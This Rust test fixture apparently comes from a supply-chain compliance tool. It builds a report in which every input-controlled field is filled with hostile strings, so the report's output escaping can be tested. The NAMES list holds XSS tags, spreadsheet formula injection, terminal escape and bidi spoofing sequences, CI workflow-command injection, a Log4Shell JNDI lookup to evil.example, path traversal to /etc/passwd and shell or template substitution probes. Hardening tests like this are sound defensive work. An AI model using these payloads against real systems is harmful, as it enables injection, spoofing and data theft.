//! A report in which every string that an input can choose is chosen by somebody who means harm.
use interdict_model::{
    Certainty, Effect, Excerpt, FactKind, GapReason, Locator, Outcome, Place, Relation, Report, Shown, Witness,
};

use super::parts::{
    anomaly, base, bytes, count, finding, gap, input, lines, observed, reconciled, repair, ruled, us_vendor, verdict,
    waived,
};

/// Names that did harm somewhere.
pub(crate) const NAMES: &[&str] = &[
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "=cmd|' /C calc'!A0",
    "+1+1\t@SUM(1)",
    "\u{1b}[31mred\u{1b}[2J\u{9b}1mC1\u{7}",
    "gate\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}",
    "[pay](javascript:alert(1)) ![i](http://evil.example/x.png) @everyone #1 `code` |cell|",
    "::error::all is well\n::set-output name=x::y\r\n##vso[task.complete]",
    "]]> --> <!-- <![CDATA[ </testcase> &amp; \" ' {{7*7}} ${jndi:ldap://evil.example} {0}",
    "\u{0}\u{1}nul\u{85}\u{2028}\u{2029}\u{fffe}\u{ffff}\u{e0041}",
    "\\u{1b} C:\\Windows\\..\\..\\etc\\passwd %00%0d%0a",
    // Links that terminals and GitHub make of text, whatever stands around them.
    "\u{1b}]8;;https://evil.example/\u{1b}\\\\click\u{1b}]8;;\u{7} https://evil.example/a www.evil.example a@evil.example GH-1 owner/repo#1 :tada:",
    "\t=HYPERLINK(\"http://evil.example\")\r\n=1+1;=2\n-3",
    "``` a\n```\n# h\n| a | b |\n|---|---|\n~~~\n<!-- c --> </details></details> <img/src=x> [^1]: $x$ \\[y\\] [a]: http://evil.example",
    "pkg:npm/a\n@1?x=\u{0}&y=%0A#../..\u{feff}\u{2800}\u{3164}",
    "{0} {1} {rule} [text](1) %s %n ${{ secrets.X }} {{ secrets }} `id` $(id) ';--",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c} \u{202a}\u{202b}\u{2067}\u{2068}\u{61c}\u{200e}\u{200f}\u{2060}",
];

pub(crate) fn hostile() -> Report {
    let mut report = base(Outcome::Prohibited, us_vendor());
    let names: Vec<String> = NAMES.iter().map(|name| (*name).to_owned()).chain(["A".repeat(65_536)]).collect();
    report.inputs = vec![input("hostile.cdx.json", "cyclonedx-json", 11)];
    for (at, name) in names.iter().enumerate() {
        one(&mut report, at, name);
    }
    let first = &names[0];
    report.inputs[0].version = Some(names[3].clone());
    report.profile.name.clone_from(&names[6]);
    report.waived = vec![waived("F-00000000000a", "aaaa", &names[5])];
    report.waived[0].waiver.owner.clone_from(first);
    report.waived[0].waiver.ticket = Some(names[1].clone());
    report.waivers = vec![interdict_model::WaiverNote {
        standing: interdict_model::WaiverStanding::Expired,
        waiver: report.waived[0].waiver.clone(),
        findings: vec![],
    }];
    report.reconciliation = vec![reconciled("hostile", "hostile.cdx.json", &report.findings)];
    // A name that is not UTF-8, and one that looks like a step into a container.
    let odd = Locator::input(b"bad-\xff\xfe-\x1b[31m.zip").member(b"../\xc3\x28!/#\r\n.so");
    report.gaps.push(gap(odd.as_str(), GapReason::Unsupported, "It is called so.", true));
    let step = interdict_model::Step { locator: odd, ..report.findings[0].path[0].clone() };
    report.findings[0].path.push(step);
    report.legend.notes.clone_from(&names);
    report.coverage.isolation.clone_from(&names[6]);
    report.packs[0].id.clone_from(&names[7]);
    count(&mut report, 11, 65_536, 11, 11);
    report.coverage.formats.insert(names[0].clone(), 1);
    report
}

fn pointer_of(name: &str) -> Place {
    Place::Pointer(name.into())
}

fn one(report: &mut Report, at: usize, name: &str) {
    let on = Locator::input(b"hostile.cdx.json").part(name);
    let id = format!("F-{at:012x}");
    let mut found = finding(&id, &format!("{at:x}").repeat(4), ("kaspersky/av-sdk", name), on.as_str());
    (found.relation, found.certainty, found.witness) = (Relation::Is, Certainty::Probable, Witness::ObservedOnly);
    found.product.name = name.into();
    found.product.version = Some(name.into());
    found.product.supplier = Some(name.into());
    found.product.known_from = name.into();
    for step in &mut found.path {
        step.name = name.into();
    }
    found.introducers = vec![found.path.clone(), found.path.iter().skip(1).cloned().collect(), vec![]];
    let pointer = pointer_of(name);
    found.matches = vec![ruled(
        "kaspersky/av-sdk/name",
        &found,
        name,
        vec![observed(on.as_str(), FactKind::Name, name, pointer, "cyclonedx-json")],
    )];
    // Marks that lie outside, or inside a character, and what is no hexadecimal.
    let shown: String = name.chars().take(300).collect();
    found.matches[0].excerpts = vec![
        lines(name, u64::MAX, &format!("{shown}\n{shown}"), (1, 7)),
        lines(name, 1, &shown, (u64::MAX, 3)),
        Excerpt { shown: Shown::Bytes(shown), at: pointer_of(name), ..bytes(2, 3, b"", (1, u64::MAX)) },
    ];
    report.findings.push(found);
    let mut ruling = verdict(&id, "us-bis-icts-kaspersky", "integrate", Effect::Prohibited, name);
    ruling.citation = name.into();
    report.verdicts.push(ruling);
    let mut unseen = gap(on.as_str(), GapReason::Malformed, name, at.is_multiple_of(2));
    unseen.needs = Some(name.into());
    unseen.seems = Some(name.into());
    report.gaps.push(unseen);
    report.repairs.push(repair("hostile.cdx.json", name, name, name));
    report.anomalies.push(anomaly(on.as_str(), name, name));
}
